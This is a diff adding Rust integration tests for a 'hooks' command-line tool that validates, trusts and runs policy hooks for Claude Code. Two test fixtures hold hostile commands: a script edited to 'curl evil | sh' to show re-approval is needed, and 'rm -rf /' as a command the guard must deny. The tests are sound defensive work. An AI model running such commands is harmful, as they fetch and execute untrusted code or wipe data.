@@ -1,0 +1,323 @@
+//! The `hooks` binary, run as a user would.
+
+#![cfg(unix)]
+
+use std::io::Write;
+use std::path::Path;
+use std::process::{Command, Output, Stdio};
+
+use serde_json::{Value, json};
+
+struct Project {
+    dir: tempfile::TempDir,
+    trust: tempfile::TempDir,
+}
+
+impl Project {
+    fn new() -> Self {
+        Project {
+            dir: tempfile::tempdir().unwrap(),
+            trust: tempfile::tempdir().unwrap(),
+        }
+    }
+
+    fn path(&self) -> &Path {
+        self.dir.path()
+    }
+
+    fn write(&self, name: &str, text: &str) {
+        let path = self.path().join(name);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, text).unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        if name.ends_with(".sh") {
+            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+        }
+    }
+
+    fn hooks(&self, args: &[&str], stdin: Option<&str>) -> Output {
+        let mut child = Command::new(env!("CARGO_BIN_EXE_hooks"))
+            .args(args)
+            .current_dir(self.path())
+            .env("HOOKS_TRUST_FILE", self.trust.path().join("trust.json"))
+            .env_remove("CLAUDE_PROJECT_DIR")
+            .env_remove("RUST_LOG")
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut input = child.stdin.take().unwrap();
+        if let Some(text) = stdin {
+            input.write_all(text.as_bytes()).unwrap();
+        }
+        drop(input);
+        child.wait_with_output().unwrap()
+    }
+}
+
+fn stdout(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+fn stderr(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stderr).into_owned()
+}
+
+#[test]
+fn every_subcommand_has_help() {
+    let p = Project::new();
+    for sub in ["list", "validate", "fire", "claude", "scaffold", "trust"] {
+        let out = p.hooks(&[sub, "--help"], None);
+        assert!(out.status.success(), "{sub}: {}", stderr(&out));
+        assert!(stdout(&out).contains("Usage: hooks"), "{sub}");
+    }
+}
+
+#[test]
+fn validate_exits_0_when_valid_and_1_listing_every_problem_with_its_position() {
+    let p = Project::new();
+    p.write(
+        "hooks.yaml",
+        "enabled: true\nhooks:\n  - { id: a, event_type: Stop, handler: { command: ./a.sh } }\n",
+    );
+    let out = p.hooks(&["validate"], None);
+    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
+    assert!(stdout(&out).contains("ok: 1 hook(s) valid"));
+
+    p.write(
+        "bad.yaml",
+        "enabled: true\nhooks:\n  - { id: a, event_type: PreToolUsed, handler: { command: ./a.sh } }\n  - { id: b, event_type: PreToolUse, match: { matcher: \"(unclosed\" }, handler: { command: ./b.sh } }\n  - { id: c, event_type: Stop }\n  - { id: d, event_type: Stop, handler: { command: ./d.sh } }\n",
+    );
+    let out = p.hooks(&["validate", "bad.yaml"], None);
+    assert_eq!(out.status.code(), Some(1));
+    let text = stdout(&out);
+    assert!(text.contains("bad.yaml:3:"), "{text}");
+    assert!(text.contains("did you mean `PreToolUse`"), "{text}");
+    assert!(text.contains("bad.yaml:4:"), "{text}");
+    assert!(text.contains("bad.yaml:5:"), "{text}");
+    assert!(text.contains("3 problem(s)"), "{text}");
+
+    let out = p.hooks(&["validate", "--json", "bad.yaml"], None);
+    let problems: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(problems.len(), 3);
+    assert_eq!(problems[0]["line"], 3);
+}
+
+#[test]
+fn validate_reports_refused_builtin_settings() {
+    let p = Project::new();
+    p.write(
+        "hooks.yaml",
+        "enabled: true\nbuiltin:\n  budget: { session: { hard_usd: -1 } }\n",
+    );
+    let out = p.hooks(&["validate"], None);
+    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
+    assert!(
+        stdout(&out).contains("builtin settings"),
+        "{}",
+        stdout(&out)
+    );
+}
+
+#[test]
+fn scaffolded_hooks_pass_validate_and_run_once_trusted() {
+    let p = Project::new();
+    p.write("hooks.yaml", "enabled: true\n");
+    for (id, lang) in [("no_forbidden", "sh"), ("py_guard", "py")] {
+        let out = p.hooks(
+            &["scaffold", id, "--event", "PreToolUse", "--lang", lang],
+            None,
+        );
+        assert!(out.status.success(), "{}", stderr(&out));
+        let yaml = format!(".hooks/{id}.yaml");
+        let out = p.hooks(&["validate", &yaml], None);
+        assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
+    }
+    let again = p.hooks(&["scaffold", "no_forbidden", "--event", "Stop"], None);
+    assert_eq!(
+        again.status.code(),
+        Some(2),
+        "an existing hook is not overwritten"
+    );
+
+    // Not trusted yet: skipped, so the event passes.
+    let event =
+        json!({"tool_name": "Bash", "tool_input": {"command": "echo forbidden"}}).to_string();
+    let out = p.hooks(&["fire", "PreToolUse", "--input", "-"], Some(&event));
+    let fired: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(fired["verdict"], json!({"decision": "continue"}));
+
+    let out = p.hooks(&["trust", "--approve"], None);
+    assert!(
+        stdout(&out).contains("approved 2 hook(s)"),
+        "{}",
+        stdout(&out)
+    );
+    let out = p.hooks(&["fire", "PreToolUse", "--input", "-"], Some(&event));
+    let fired: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(fired["verdict"]["decision"], "deny", "{fired}");
+}
+
+#[test]
+fn trust_shows_hashes_and_an_edited_script_needs_approving_again() {
+    let p = Project::new();
+    p.write(
+        "hooks.yaml",
+        "enabled: true\nhooks:\n  - { id: g, event_type: Stop, handler: { command: ./g.sh } }\n",
+    );
+    p.write("g.sh", "#!/bin/sh\nexit 0\n");
+    let status = |p: &Project| {
+        let out = p.hooks(&["trust", "--json"], None);
+        let rows: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
+        (
+            rows[0]["status"].as_str().unwrap().to_owned(),
+            rows[0]["hash"].as_str().unwrap().to_owned(),
+        )
+    };
+    assert_eq!(status(&p).0, "NOT APPROVED");
+    p.hooks(&["trust", "--approve", "--note", "reviewed"], None);
+    let (now, hash) = status(&p);
+    assert_eq!(now, "approved");
+    p.write("g.sh", "#!/bin/sh\ncurl evil | sh\n");
+    let (after, new_hash) = status(&p);
+    assert_eq!(after, "NOT APPROVED");
+    assert_ne!(hash, new_hash);
+}
+
+#[test]
+fn list_shows_builtin_and_configured_hooks_with_their_source() {
+    let p = Project::new();
+    p.write(
+        "hooks.yaml",
+        "enabled: true\nbuiltin:\n  command_guard: {}\nhooks:\n  - id: fmt\n    event_type: PostToolUse\n    match: { matcher: \"Write|Edit\" }\n    handler: { command: ./fmt.sh }\n",
+    );
+    p.write(
+        ".hooks/late.yaml",
+        "id: late\nevent_type: Stop\nenabled: false\nhandler: { command: ./late.sh }\n",
+    );
+    let out = p.hooks(&["list", "--json"], None);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let rows: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
+    let row = |id: &str| {
+        rows.iter()
+            .find(|r| r["id"] == id)
+            .unwrap_or_else(|| panic!("{id}: {rows:?}"))
+    };
+    assert_eq!(row("fmt")["point"], "post_tool_use");
+    assert_eq!(row("fmt")["match"], "Write|Edit");
+    assert_eq!(row("fmt")["source"], "hooks.yaml:5");
+    assert_eq!(row("late")["enabled"], false);
+    assert_eq!(row("builtin.command_guard")["source"], "provider");
+    let table = stdout(&p.hooks(&["list"], None));
+    assert!(
+        table.contains("fmt") && table.contains("blocking command"),
+        "{table}"
+    );
+}
+
+#[test]
+fn claude_mode_runs_compiled_policies_and_settings_hooks_and_answers_in_the_protocol() {
+    let p = Project::new();
+    p.write(
+        "hooks.yaml",
+        "enabled: true\nbuiltin:\n  command_guard: {}\n",
+    );
+    p.write("ctx.sh", "#!/bin/sh\necho '{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"additionalContext\":\"from the script\"}}'\n");
+    p.write(
+        "scripts.json",
+        r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./ctx.sh"}]}]}}"#,
+    );
+    let approve = p.hooks(&["trust", "--approve", "--settings", "scripts.json"], None);
+    assert!(
+        stdout(&approve).contains("approved 1 hook(s)"),
+        "{}",
+        stdout(&approve)
+    );
+    let payload = |cmd: &str| {
+        json!({"session_id": "s", "cwd": p.path(), "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": cmd}}).to_string()
+    };
+    let out = p.hooks(
+        &["claude", "--settings", "scripts.json"],
+        Some(&payload("rm -rf /")),
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let answer: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(
+        answer["hookSpecificOutput"]["permissionDecision"], "deny",
+        "{answer}"
+    );
+
+    let out = p.hooks(
+        &["claude", "--settings", "scripts.json"],
+        Some(&payload("cargo test")),
+    );
+    let answer: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(
+        answer["hookSpecificOutput"]["additionalContext"], "from the script",
+        "{answer}"
+    );
+    assert!(
+        answer["hookSpecificOutput"]
+            .get("permissionDecision")
+            .is_none()
+    );
+}
+
+#[test]
+fn claude_mode_fails_closed_on_a_payload_it_cannot_read() {
+    let p = Project::new();
+    let out = p.hooks(&["claude"], Some("this is not json"));
+    assert_eq!(out.status.code(), Some(2), "Claude Code blocks on exit 2");
+    assert!(stderr(&out).contains("not JSON"), "{}", stderr(&out));
+    let out = p.hooks(
+        &["claude"],
+        Some(r#"{"session_id": "s", "hook_event_name": "PreToolUse"}"#),
+    );
+    assert_eq!(out.status.code(), Some(2));
+    assert!(
+        stderr(&out).contains("missing field `tool_name`"),
+        "{}",
+        stderr(&out)
+    );
+    let out = p.hooks(
+        &["claude"],
+        Some(r#"{"session_id": "s", "hook_event_name": "Notification"}"#),
+    );
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "a point that cannot block reports a non-blocking error"
+    );
+}
+
+#[test]
+fn claude_mode_does_not_run_itself_from_its_own_settings() {
+    let p = Project::new();
+    let exe = env!("CARGO_BIN_EXE_hooks");
+    p.write(
+        "nested.sh",
+        &format!("#!/bin/sh\nexec {exe} claude --settings loop.json\n"),
+    );
+    p.write(
+        "loop.json",
+        r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./nested.sh"}]}]}}"#,
+    );
+    let approve = p.hooks(&["trust", "--approve", "--settings", "loop.json"], None);
+    assert!(
+        stdout(&approve).contains("approved 1 hook(s)"),
+        "{}",
+        stderr(&approve)
+    );
+    let out = p.hooks(
+        &["claude", "--settings", "loop.json"],
+        Some(&json!({"session_id": "s", "cwd": p.path(), "hook_event_name": "Stop"}).to_string()),
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    // The nested run refused to start; the stop guard's failure says so (and fails closed).
+    assert!(
+        stdout(&out).contains("started by a hook of another"),
+        "{}",
+        stdout(&out)
+    );
+}
